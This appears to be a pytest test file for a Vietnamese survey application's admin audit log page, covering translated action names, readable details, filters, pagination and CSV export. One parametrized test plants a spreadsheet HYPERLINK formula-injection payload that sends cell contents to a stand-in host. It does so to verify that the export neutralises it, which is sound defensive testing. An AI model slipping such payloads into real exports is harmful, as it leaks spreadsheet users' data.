"""The audit log page and its CSV: Vietnamese names, readable details, filters, pages, safe cells."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from survey import db
from survey.accounts import audit_names
from survey.accounts.models import AuditEvent, User
from survey.accounts.services import record
from tests.conftest import STAFF_PASSWORD, csrf_token_in

SURVEY = Path(__file__).resolve().parents[2] / "survey"


def recorded_codes() -> set[str]:
    """The literal action codes passed to ``record`` (or to a module's ``_audit*`` wrapper) in survey/."""
    codes = set()
    for path in SURVEY.rglob("*.py"):
        for call in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(call, ast.Call):
                continue
            name = getattr(call.func, "id", None) or getattr(call.func, "attr", "")
            if name == "record" or name.startswith("_audit"):
                for arg in call.args[:3]:
                    codes.update(node.value for node in ast.walk(arg) if isinstance(node, ast.Constant)
                                 and isinstance(node.value, str) and re.fullmatch(r"[a-z]+\.[a-z_]*[a-z]", node.value))
    return codes


def test_every_recorded_action_has_a_vietnamese_name():
    from survey.reports.exports import EXPORTS

    codes = recorded_codes() | {f"reports.export_{kind}" for kind in EXPORTS}
    assert {"round.create", "roster.import", "auth.login", "mail.invite", "assessment.close",
            "collection.point_reopen"} <= codes
    missing = sorted(c for c in codes if c not in audit_names.ACTION_NAMES)
    assert missing == []


def test_details_read_as_words():
    assert audit_names.describe_details({"added": 3, "updated": 1, "unchanged": 0}) == \
        "thêm mới: 3; cập nhật: 1; không đổi: 0"
    assert audit_names.describe_details({"changed": ["title", "ministry_deadline"]}) == "đã sửa: tên đợt, hạn gửi Bộ"
    assert audit_names.describe_details({"role": "analyst"}) == "vai trò: Cán bộ phân tích"
    assert audit_names.describe_details({"stale": True, "reason": "size"}) == "quá hạn 24 giờ: có; lý do: size"
    assert audit_names.describe_details({"options": {"dont_know": "zero", "min_cell": 5}}) == \
        "tùy chọn phân tích (câu “không biết”: tính 0 điểm; ngưỡng k: 5)"
    assert audit_names.describe_details({}) == ""
    assert audit_names.action_name("something.new") == "something.new"


def _sign_in(client, email):
    page = client.get("/admin/login")
    reply = client.post("/admin/login", data={"email": email, "password": STAFF_PASSWORD,
                                              "csrf_token": csrf_token_in(page.text)})
    assert reply.status_code == 302


def _add(app, action, *, actor_email=None, at=None, target=None, details=None):
    with app.app_context(), db.unit_of_work() as session:
        actor = session.scalar(select(User).where(User.email == actor_email)) if actor_email else None
        event = record(session, action, target=target, details=details, actor=actor,
                       province_id=actor.province_id if actor else None)
        if at is not None:
            event.occurred_at = at


def test_the_page_shows_names_and_details_and_filters_by_action_person_and_dates(app, client, staff):
    admin = staff("province_admin")
    other = staff("analyst")
    _sign_in(client, admin)
    _add(app, "roster.import", actor_email=other, target="ds.xlsx", details={"added": 3, "updated": 1},
         at=datetime(2024, 11, 30, 18, 0, tzinfo=UTC))  # 01:00 on 1/12 in Vietnam
    _add(app, "round.update", actor_email=admin, details={"changed": ["year"]},
         at=datetime(2024, 11, 20, 3, 0, tzinfo=UTC))
    _add(app, "future.thing", actor_email=admin, at=datetime(2024, 11, 21, 3, 0, tzinfo=UTC))

    page = client.get("/admin/audit").text
    assert "Nhập danh sách đối tượng" in page and "thêm mới: 3; cập nhật: 1" in page
    assert "Sửa đợt khảo sát" in page and "đã sửa: năm" in page
    assert "future.thing" in page  # no name yet: shown as recorded
    assert "{" not in re.sub(r"<script.*?</script>", "", page, flags=re.S).split("<table")[1]

    by_area = client.get("/admin/audit", query_string={"action": "roster"}).text
    assert "ds.xlsx" in by_area and "Sửa đợt khảo sát" not in by_area.split("<table")[1]
    by_code = client.get("/admin/audit", query_string={"action": "round.update"}).text.split("<table")[1]
    assert "Sửa đợt khảo sát" in by_code and "ds.xlsx" not in by_code
    by_person = client.get("/admin/audit", query_string={"actor": other}).text.split("<table")[1]
    assert "ds.xlsx" in by_person and "Sửa đợt khảo sát" not in by_person
    # Vietnam dates: 18:00 UTC on 30/11 is 1 December in Vietnam.
    december = client.get("/admin/audit", query_string={"since": "2024-12-01", "until": "2024-12-01"}).text
    assert "ds.xlsx" in december and "Sửa đợt khảo sát" not in december.split("<table")[1]
    november = client.get("/admin/audit", query_string={"since": "2024-11-01", "until": "2024-11-30"}).text
    assert "ds.xlsx" not in november and "Sửa đợt khảo sát" in november.split("<table")[1]

    backwards = client.get("/admin/audit", query_string={"since": "2024-12-02", "until": "2024-12-01"})
    assert backwards.status_code == 422 and "Ngày kết thúc phải sau ngày bắt đầu." in backwards.text
    assert client.get("/admin/audit", query_string={"since": "1/12/2024"}).status_code == 422
    assert client.get("/admin/audit", query_string={"actor": "nobody@example.vn"}).status_code == 422

    export = client.get("/admin/audit.csv", query_string={"action": "roster"}).data.decode("utf-8-sig")
    body = list(csv.reader(io.StringIO(export)))
    assert body[0][2:4] == ["Hành động", "Mã hành động"]
    assert [row[2:5] for row in body[1:]] == [["Nhập danh sách đối tượng", "roster.import", "ds.xlsx"]]
    assert body[1][6] == "thêm mới: 3; cập nhật: 1"


def test_the_log_is_paginated(app, client, staff):
    admin = staff("province_admin")
    _sign_in(client, admin)
    for n in range(120):
        _add(app, "roster.add", actor_email=admin, target=f"Người số {n:03d}")
    first = client.get("/admin/audit").text
    assert "Tổng số: <strong>122</strong>" in first and "trang 1/3" in first  # 120, the account, the sign-in
    assert "Người số 119" in first and "Người số 069" not in first
    assert 'href="/admin/audit?page=2"' in first
    third = client.get("/admin/audit", query_string={"page": 3, "action": "roster"}).text
    assert "Tổng số: <strong>120</strong>" in third and "Người số 000" in third and "Người số 119" not in third
    assert "page=2&amp;action=roster" in third or "action=roster&amp;page=2" in third


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_csv_never_turns_a_target_into_a_formula(app, client, staff, start):
    admin = staff("province_admin")
    _sign_in(client, admin)
    name = f'{start}HYPERLINK("http://evil.example/?x="&A1,"tep").csv'
    _add(app, "roster.upload", actor_email=admin, target=name, details={"file": name})
    export = client.get("/admin/audit.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(export)))
    upload = next(row for row in rows if row[3] == "roster.upload")
    assert upload[4] == "'" + name  # text for a spreadsheet program, never a formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    with app.app_context():
        assert db.session().scalar(select(AuditEvent.actor).where(AuditEvent.action == "audit.export")) == admin
